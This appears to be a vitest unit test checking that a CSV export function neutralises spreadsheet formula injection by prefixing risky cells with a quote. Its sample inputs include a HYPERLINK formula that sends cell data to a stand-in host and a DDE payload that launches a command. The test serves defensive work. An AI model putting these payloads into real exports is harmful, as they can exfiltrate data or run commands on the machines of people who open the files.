/** CSV cells from stored data never run as spreadsheet formulas. */
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvTable } from "./format.js";

describe("csvTable", () => {
  it("prefixes cells a spreadsheet would run as a formula with ', and leaves others as they are", () => {
    const evil = [
      '=HYPERLINK("https://evil.example/?x="&A2,"details")',
      "+cmd|' /C calc'!A0",
      "-1+1",
      "@SUM(1+1)",
    ];
    const text = csvTable(
      ["organization", "count"],
      [...evil.map((o) => [o, 1]), ["bw-cyber", 2], ["a=b", -3]],
    );
    const rows = parse(text) as string[][];
    expect(rows[0]).toEqual(["organization", "count"]);
    expect(rows.slice(1, 5).map((r) => r[0])).toEqual(evil.map((o) => `'${o}`));
    expect(rows[5]).toEqual(["bw-cyber", "2"]);
    // Only a leading sign is a formula; a number is written as a number.
    expect(rows[6]).toEqual(["a=b", "-3"]);
  });
});
